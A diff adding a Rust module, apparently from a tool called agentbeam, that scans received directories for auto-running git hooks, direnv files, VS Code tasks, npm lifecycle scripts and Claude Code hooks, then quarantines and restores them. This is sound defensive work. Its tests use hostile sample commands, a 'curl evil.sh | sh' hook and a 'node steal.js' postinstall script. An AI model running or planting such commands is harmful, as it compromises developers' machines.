@@ -0,0 +1,480 @@
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::fs;
+use std::path::Path;
+use tracing::{debug, info};
+use walkdir::WalkDir;
+
+/// Suffix given to neutralized files; stripped files keep their original content under it
+pub const QUARANTINE_SUFFIX: &str = ".quarantined";
+
+/// Record of what was neutralized, so `agentbeam trust` can undo it
+pub const QUARANTINE_MANIFEST: &str = ".agentbeam/quarantine.json";
+
+/// npm runs these on `npm install`, `npm ci` and `npm publish` without being asked
+const NPM_LIFECYCLE_SCRIPTS: &[&str] = &[
+    "preinstall",
+    "install",
+    "postinstall",
+    "preprepare",
+    "prepare",
+    "postprepare",
+    "prepublish",
+    "prepack",
+    "postpack",
+    "dependencies",
+];
+
+const CLAUDE_SETTINGS_FILES: &[&str] = &[".claude/settings.json", ".claude/settings.local.json"];
+
+/// What runs the commands of an auto-executing file
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum AutoExecKind {
+    GitHook,
+    Envrc,
+    VscodeTasks,
+    NpmScripts,
+    ClaudeHooks,
+}
+
+impl AutoExecKind {
+    pub fn description(&self) -> &'static str {
+        match self {
+            AutoExecKind::GitHook => "git hook",
+            AutoExecKind::Envrc => "direnv",
+            AutoExecKind::VscodeTasks => "VS Code tasks",
+            AutoExecKind::NpmScripts => "npm lifecycle scripts",
+            AutoExecKind::ClaudeHooks => "Claude Code hooks",
+        }
+    }
+}
+
+/// How a file was neutralized
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum QuarantineAction {
+    /// Renamed with the quarantine suffix
+    Renamed,
+    /// The auto-executing entries were removed; the original is kept with the quarantine suffix
+    Stripped,
+}
+
+/// A received file that would run commands without being asked
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AutoExecFile {
+    pub kind: AutoExecKind,
+    /// Path relative to the received directory, with `/` separators
+    pub path: String,
+    /// The exact commands it would run
+    pub commands: Vec<String>,
+    pub action: QuarantineAction,
+}
+
+impl AutoExecFile {
+    pub fn quarantined_path(&self) -> String {
+        format!("{}{}", self.path, QUARANTINE_SUFFIX)
+    }
+}
+
+/// Result of `agentbeam trust`
+#[derive(Debug, Default)]
+pub struct TrustOutcome {
+    pub restored: Vec<AutoExecFile>,
+    /// Stripped files edited since they were received; their originals stay quarantined
+    pub kept: Vec<AutoExecFile>,
+}
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct QuarantineManifest {
+    files: Vec<AutoExecFile>,
+}
+
+pub struct Quarantine;
+
+impl Quarantine {
+    /// Find git hooks, `.envrc`, VS Code tasks, npm lifecycle scripts and Claude Code hooks in `dir`
+    pub fn scan(dir: &Path) -> Result<Vec<AutoExecFile>> {
+        let mut found = Vec::new();
+
+        let hooks_dir = dir.join(".git").join("hooks");
+        if hooks_dir.is_dir() {
+            let mut hooks: Vec<_> = fs::read_dir(&hooks_dir)?.collect::<std::io::Result<_>>()?;
+            hooks.sort_by_key(|entry| entry.file_name());
+            for entry in hooks {
+                let name = entry.file_name().to_string_lossy().to_string();
+                // git only runs hooks named exactly after the event
+                if name.ends_with(".sample") || name.ends_with(QUARANTINE_SUFFIX) || !entry.path().is_file() {
+                    continue;
+                }
+                found.push(AutoExecFile {
+                    kind: AutoExecKind::GitHook,
+                    path: format!(".git/hooks/{}", name),
+                    commands: script_lines(&entry.path()),
+                    action: QuarantineAction::Renamed,
+                });
+            }
+        }
+
+        // direnv and VS Code pick these up in any directory that is opened or entered
+        for envrc in find_files(dir, |path| path.file_name() == Some(".envrc".as_ref())) {
+            found.push(AutoExecFile {
+                kind: AutoExecKind::Envrc,
+                commands: script_lines(&dir.join(&envrc)),
+                path: envrc,
+                action: QuarantineAction::Renamed,
+            });
+        }
+
+        let is_tasks = |path: &Path| {
+            path.file_name() == Some("tasks.json".as_ref())
+                && path.parent().and_then(Path::file_name) == Some(".vscode".as_ref())
+        };
+        for tasks in find_files(dir, is_tasks) {
+            found.push(AutoExecFile {
+                kind: AutoExecKind::VscodeTasks,
+                commands: vscode_task_commands(&dir.join(&tasks)),
+                path: tasks,
+                action: QuarantineAction::Renamed,
+            });
+        }
+
+        for package in find_files(dir, |path| path.file_name() == Some("package.json".as_ref())) {
+            let Some(json) = read_json(&dir.join(&package)) else {
+                continue;
+            };
+            let commands = npm_lifecycle_commands(&json);
+            if !commands.is_empty() {
+                found.push(AutoExecFile {
+                    kind: AutoExecKind::NpmScripts,
+                    path: package,
+                    commands,
+                    action: QuarantineAction::Stripped,
+                });
+            }
+        }
+
+        for settings in CLAUDE_SETTINGS_FILES {
+            let Some(json) = read_json(&dir.join(settings)) else {
+                continue;
+            };
+            let commands = claude_hook_commands(&json);
+            if json.get("hooks").is_some() {
+                found.push(AutoExecFile {
+                    kind: AutoExecKind::ClaudeHooks,
+                    path: settings.to_string(),
+                    commands,
+                    action: QuarantineAction::Stripped,
+                });
+            }
+        }
+
+        debug!("Found {} auto-executing files", found.len());
+        Ok(found)
+    }
+
+    /// Neutralize `files` in `dir` and record them for [`Quarantine::trust`]
+    pub fn apply(dir: &Path, files: &[AutoExecFile]) -> Result<()> {
+        for file in files {
+            let path = dir.join(&file.path);
+            let quarantined = dir.join(file.quarantined_path());
+            match file.action {
+                QuarantineAction::Renamed => {
+                    fs::rename(&path, &quarantined)
+                        .with_context(|| format!("Failed to quarantine {}", file.path))?;
+                }
+                QuarantineAction::Stripped => {
+                    let mut json = read_json(&path)
+                        .with_context(|| format!("Failed to parse {}", file.path))?;
+                    strip(&mut json, file.kind);
+                    fs::copy(&path, &quarantined)?;
+                    write_json(&path, &json)?;
+                }
+            }
+            debug!("Quarantined {}", file.path);
+        }
+
+        let mut manifest = Self::load_manifest(dir)?;
+        manifest.files.extend(files.iter().cloned());
+        let manifest_path = dir.join(QUARANTINE_MANIFEST);
+        if let Some(parent) = manifest_path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(&manifest_path, serde_json::to_string_pretty(&manifest)?)?;
+
+        info!("Quarantined {} auto-executing files in {}", files.len(), dir.display());
+        Ok(())
+    }
+
+    /// Put every quarantined file in `dir` back
+    ///
+    /// A stripped file that was edited after receiving is left alone, so no local change is lost.
+    pub fn trust(dir: &Path) -> Result<TrustOutcome> {
+        let manifest = Self::load_manifest(dir)?;
+
+        let mut outcome = TrustOutcome::default();
+        for file in manifest.files {
+            let path = dir.join(&file.path);
+            let quarantined = dir.join(file.quarantined_path());
+            if !quarantined.exists() {
+                debug!("{} is no longer quarantined", file.path);
+                continue;
+            }
+
+            if file.action == QuarantineAction::Stripped && path.exists() {
+                let original = read_json(&quarantined)
+                    .with_context(|| format!("Failed to parse {}", file.quarantined_path()))?;
+                let mut expected = original;
+                strip(&mut expected, file.kind);
+                if read_json(&path).as_ref() != Some(&expected) {
+                    outcome.kept.push(file);
+                    continue;
+                }
+            }
+
+            fs::rename(&quarantined, &path)
+                .with_context(|| format!("Failed to restore {}", file.path))?;
+            outcome.restored.push(file);
+        }
+
+        let manifest_path = dir.join(QUARANTINE_MANIFEST);
+        if outcome.kept.is_empty() {
+            if manifest_path.exists() {
+                fs::remove_file(&manifest_path)?;
+            }
+        } else {
+            let manifest = QuarantineManifest { files: outcome.kept.clone() };
+            fs::write(&manifest_path, serde_json::to_string_pretty(&manifest)?)?;
+        }
+
+        Ok(outcome)
+    }
+
+    /// Files in `dir` that are still quarantined
+    pub fn quarantined(dir: &Path) -> Result<Vec<AutoExecFile>> {
+        let manifest = Self::load_manifest(dir)?;
+        Ok(manifest
+            .files
+            .into_iter()
+            .filter(|file| dir.join(file.quarantined_path()).exists())
+            .collect())
+    }
+
+    fn load_manifest(dir: &Path) -> Result<QuarantineManifest> {
+        let path = dir.join(QUARANTINE_MANIFEST);
+        if !path.exists() {
+            return Ok(QuarantineManifest::default());
+        }
+        let content = fs::read_to_string(&path)?;
+        serde_json::from_str(&content).with_context(|| format!("Failed to parse {}", path.display()))
+    }
+}
+
+/// Remove the auto-executing entries of a stripped file
+fn strip(json: &mut Value, kind: AutoExecKind) {
+    match kind {
+        AutoExecKind::NpmScripts => {
+            if let Some(scripts) = json.get_mut("scripts").and_then(Value::as_object_mut) {
+                for script in NPM_LIFECYCLE_SCRIPTS {
+                    scripts.remove(*script);
+                }
+            }
+        }
+        AutoExecKind::ClaudeHooks => {
+            if let Some(settings) = json.as_object_mut() {
+                settings.remove("hooks");
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Non-empty, non-comment lines of a shell script
+fn script_lines(path: &Path) -> Vec<String> {
+    fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .map(str::to_string)
+        .collect()
+}
+
+fn vscode_task_commands(path: &Path) -> Vec<String> {
+    let Some(json) = read_json(path) else {
+        return vec!["(tasks.json could not be parsed; review it by hand)".to_string()];
+    };
+
+    let mut commands = Vec::new();
+    for task in json.get("tasks").and_then(Value::as_array).into_iter().flatten() {
+        let Some(command) = task.get("command").and_then(Value::as_str) else {
+            continue;
+        };
+        let args: Vec<&str> = task
+            .get("args")
+            .and_then(Value::as_array)
+            .into_iter()
+            .flatten()
+            .filter_map(Value::as_str)
+            .collect();
+        let mut line = std::iter::once(command).chain(args).collect::<Vec<_>>().join(" ");
+        let run_on = task.pointer("/runOptions/runOn").and_then(Value::as_str);
+        if run_on == Some("folderOpen") {
+            line.push_str("  (runs when the folder is opened)");
+        }
+        commands.push(line);
+    }
+    commands
+}
+
+fn npm_lifecycle_commands(package: &Value) -> Vec<String> {
+    let Some(scripts) = package.get("scripts").and_then(Value::as_object) else {
+        return Vec::new();
+    };
+    NPM_LIFECYCLE_SCRIPTS
+        .iter()
+        .filter_map(|name| {
+            let command = scripts.get(*name)?.as_str()?;
+            Some(format!("{}: {}", name, command))
+        })
+        .collect()
+}
+
+/// Commands of `hooks.<Event>[].hooks[].command` in Claude Code settings
+fn claude_hook_commands(settings: &Value) -> Vec<String> {
+    let Some(events) = settings.get("hooks").and_then(Value::as_object) else {
+        return Vec::new();
+    };
+
+    let mut commands = Vec::new();
+    for (event, matchers) in events {
+        for matcher in matchers.as_array().into_iter().flatten() {
+            for hook in matcher.get("hooks").and_then(Value::as_array).into_iter().flatten() {
+                if let Some(command) = hook.get("command").and_then(Value::as_str) {
+                    commands.push(format!("{}: {}", event, command));
+                }
+            }
+        }
+    }
+    commands
+}
+
+/// Files `matches` accepts, outside `node_modules` and `.git`
+fn find_files(dir: &Path, matches: impl Fn(&Path) -> bool) -> Vec<String> {
+    let mut files: Vec<String> = WalkDir::new(dir)
+        .into_iter()
+        .filter_entry(|entry| {
+            let name = entry.file_name();
+            name != "node_modules" && name != ".git" && name != ".agentbeam"
+        })
+        .filter_map(|entry| entry.ok())
+        .filter(|entry| entry.file_type().is_file() && matches(entry.path()))
+        .filter_map(|entry| relative(dir, entry.path()))
+        .collect();
+    files.sort();
+    files
+}
+
+fn relative(dir: &Path, path: &Path) -> Option<String> {
+    Some(path.strip_prefix(dir).ok()?.to_string_lossy().replace('\\', "/"))
+}
+
+fn read_json(path: &Path) -> Option<Value> {
+    let content = fs::read_to_string(path).ok()?;
+    serde_json::from_str(&content).ok()
+}
+
+fn write_json(path: &Path, json: &Value) -> Result<()> {
+    let mut content = serde_json::to_string_pretty(json)?;
+    content.push('\n');
+    fs::write(path, content)?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_quarantine_and_trust_round_trip() {
+        let temp_dir = TempDir::new().unwrap();
+        let dir = temp_dir.path();
+        fs::create_dir_all(dir.join(".git/hooks")).unwrap();
+        fs::create_dir_all(dir.join(".claude")).unwrap();
+        fs::write(dir.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil.sh | sh\n").unwrap();
+        fs::write(dir.join(".git/hooks/pre-push.sample"), "#!/bin/sh\n").unwrap();
+        fs::write(dir.join(".envrc"), "export FOO=1\n").unwrap();
+        let package = r#"{"name":"app","scripts":{"build":"tsc","postinstall":"node steal.js"}}"#;
+        fs::write(dir.join("package.json"), package).unwrap();
+        fs::write(
+            dir.join(".claude/settings.json"),
+            r#"{"model":"opus","hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"./run.sh"}]}]}}"#,
+        )
+        .unwrap();
+
+        let found = Quarantine::scan(dir).unwrap();
+        let summary: Vec<_> = found.iter().map(|f| (f.kind, f.path.as_str())).collect();
+        assert_eq!(
+            summary,
+            vec![
+                (AutoExecKind::GitHook, ".git/hooks/pre-commit"),
+                (AutoExecKind::Envrc, ".envrc"),
+                (AutoExecKind::NpmScripts, "package.json"),
+                (AutoExecKind::ClaudeHooks, ".claude/settings.json"),
+            ]
+        );
+        assert_eq!(found[0].commands, vec!["curl evil.sh | sh"]);
+        assert_eq!(found[2].commands, vec!["postinstall: node steal.js"]);
+        assert_eq!(found[3].commands, vec!["SessionStart: ./run.sh"]);
+
+        Quarantine::apply(dir, &found).unwrap();
+        assert!(!dir.join(".envrc").exists());
+        assert!(dir.join(".git/hooks/pre-commit.quarantined").exists());
+        let stripped = read_json(&dir.join("package.json")).unwrap();
+        assert_eq!(stripped["scripts"]["build"], "tsc");
+        assert!(stripped["scripts"].get("postinstall").is_none());
+        assert!(read_json(&dir.join(".claude/settings.json")).unwrap().get("hooks").is_none());
+        assert!(Quarantine::scan(dir).unwrap().is_empty());
+
+        let outcome = Quarantine::trust(dir).unwrap();
+        assert_eq!(outcome.restored.len(), 4);
+        assert!(outcome.kept.is_empty());
+        assert_eq!(fs::read_to_string(dir.join("package.json")).unwrap(), package);
+        assert!(dir.join(".envrc").exists());
+        assert!(!dir.join(QUARANTINE_MANIFEST).exists());
+    }
+
+    #[test]
+    fn test_scan_finds_nested_envrc_and_vscode_tasks() {
+        let temp_dir = TempDir::new().unwrap();
+        let dir = temp_dir.path();
+        fs::create_dir_all(dir.join("services/api/.vscode")).unwrap();
+        fs::create_dir_all(dir.join("node_modules/dep")).unwrap();
+        fs::write(dir.join("services/api/.envrc"), "use nix\n").unwrap();
+        fs::write(
+            dir.join("services/api/.vscode/tasks.json"),
+            r#"{"tasks":[{"command":"make","args":["dev"],"runOptions":{"runOn":"folderOpen"}}]}"#,
+        )
+        .unwrap();
+        fs::write(dir.join("services/tasks.json"), r#"{"tasks":[]}"#).unwrap();
+        fs::write(dir.join("node_modules/dep/.envrc"), "ignored\n").unwrap();
+
+        let found = Quarantine::scan(dir).unwrap();
+        let summary: Vec<_> = found.iter().map(|f| (f.kind, f.path.as_str())).collect();
+        assert_eq!(
+            summary,
+            vec![
+                (AutoExecKind::Envrc, "services/api/.envrc"),
+                (AutoExecKind::VscodeTasks, "services/api/.vscode/tasks.json"),
+            ]
+        );
+        assert_eq!(found[1].commands, vec!["make dev  (runs when the folder is opened)"]);
+
+        Quarantine::apply(dir, &found).unwrap();
+        assert_eq!(Quarantine::quarantined(dir).unwrap().len(), 2);
+        assert!(dir.join("services/api/.envrc.quarantined").exists());
+        assert!(Quarantine::scan(dir).unwrap().is_empty());
+    }
+}